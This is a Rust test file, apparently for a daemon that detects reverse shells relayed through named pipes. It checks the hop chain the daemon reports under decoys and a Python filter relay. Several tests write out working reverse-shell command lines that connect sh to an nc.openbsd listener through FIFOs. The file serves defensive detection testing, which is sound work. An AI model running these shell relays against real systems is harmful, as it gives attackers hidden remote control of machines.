//! Many who hold the same pipe, and decoys among them.

use std::time::{Duration, Instant};

use crate::common::attacker::{Listener, Session};
use crate::common::daemon::Daemon;
use crate::common::programs::program;
use crate::common::relayed::{Relayed, hops, prove_relayed};
use crate::common::victim::Victim;
use crate::{alone, found, require, still_finds};

/// Copies from FIFO `a` to FIFO `c`, with thirty pipes of its own open on lower descriptors.
const FILTER: &str = "import os
p=[os.pipe() for _ in range(30)]
i=os.open('a',os.O_RDONLY); x=os.open('c',os.O_WRONLY)
open('ready','w')
while True:
    d=os.read(i,4096)
    if not d: break
    os.write(x,d)
";

/// Starts a line of bash in a directory of its own, which has `filter.py`; `crowd` and `PORT` in the line are put in.
fn bash(line: &str) -> (Listener, Session, Victim, tempfile::TempDir) {
    let (attacker, directory) = (Listener::tcp(), tempfile::tempdir().unwrap());
    std::fs::write(directory.path().join("filter.py"), FILTER).unwrap();
    let line = line
        .replace("PORT", &attacker.port().to_string())
        .replace("crowd ", &format!("{} ", program("crowd").display()));
    let line = format!("cd {}; {line}", directory.path().display());
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let session = attacker.accept();
    (attacker, session, victim, directory)
}

/// Ten thousand processes have both pipes open, none of them kin of the shell; the relay is one more, started last.
#[test]
fn a_pipe_with_ten_thousand_holders() {
    require!("gcc", "bash", "nc.openbsd", "setsid");
    let _alone = alone();
    let daemon = Daemon::start("");
    let before = daemon.memory_kib("VmHWM");
    let began = Instant::now();
    let (attacker, mut session, victim, _directory) = bash(
        "mkfifo a b; exec 8<>a 9<>b; crowd 10000 sh -c '>ready; exec sleep 600' & \
         while [ ! -e ready ]; do sleep 0.1; done; \
         setsid -f sh -c 'exec nc.openbsd 127.0.0.1 PORT >a <b 8<&- 9<&-'; exec sh <a >b 2>&1 8<&- 9<&-",
    );
    assert!(session.run("id -u").starts_with('0'));
    let record = found(&daemon, attacker.port());
    assert_eq!((record.row(), record.text("Tether_Kind")), (4, "relayed"), "{}", record.brief());
    assert_eq!(hops(&record), ["sh pipe", "nc.openbsd pipe", "nc.openbsd socket"]);
    assert!(began.elapsed() < Duration::from_secs(25), "{:?}", began.elapsed());
    // A search among them all does not hold up what has a socket itself.
    still_finds(&daemon);
    let after = daemon.memory_kib("VmHWM");
    assert!(after < before + 24 * 1024, "memory went from {before} to {after} KiB");
    session.exit();
    // The crowd is in its process group.
    drop(victim);
    daemon.stop();
}

/// A brother of the shell has both pipes open and does nothing; the relay is nobody's kin.
#[test]
fn a_decoy_beside_the_shell() {
    require!("bash", "nc.openbsd", "setsid");
    let _alone = alone();
    let expected =
        Relayed { hops: &["sh pipe", "nc.openbsd pipe", "nc.openbsd socket"], ..Relayed::default() };
    let (attacker, session, victim, _directory) = bash(
        "mkfifo a b; exec 8<>a 9<>b; sleep 600 & \
         setsid -f sh -c 'exec nc.openbsd 127.0.0.1 PORT >a <b 8<&- 9<&-'; \
         sh <a >b 2>&1 8<&- 9<&- & exec 8<&- 9<&-; wait %2",
    );
    prove_relayed(Daemon::shared(), session, victim, &[attacker.port()], &expected);
}

/// The filter between the shell and the relay has thirty other pipes open on lower descriptors.
#[test]
fn a_filter_with_many_pipes() {
    require!("/usr/bin/python3", "nc.openbsd", "bash");
    let _alone = alone();
    let (attacker, session, victim, _directory) = bash(
        "mkfifo a b c; exec 7<>a 8<>b 9<>c; \
         setsid -f nc.openbsd 127.0.0.1 PORT >a <b 7<&- 8<&- 9<&-; \
         setsid -f /usr/bin/python3 filter.py </dev/null 7<&- 8<&- 9<&-; \
         while [ ! -e ready ]; do sleep 0.05; done; \
         exec sh <c >b 2>&1 7<&- 8<&- 9<&-",
    );
    let expected = Relayed {
        hops: &["sh pipe", "python3 pipe", "python3 pipe", "nc.openbsd pipe", "nc.openbsd socket"],
        ..Relayed::default()
    };
    prove_relayed(Daemon::shared(), session, victim, &[attacker.port()], &expected);
}
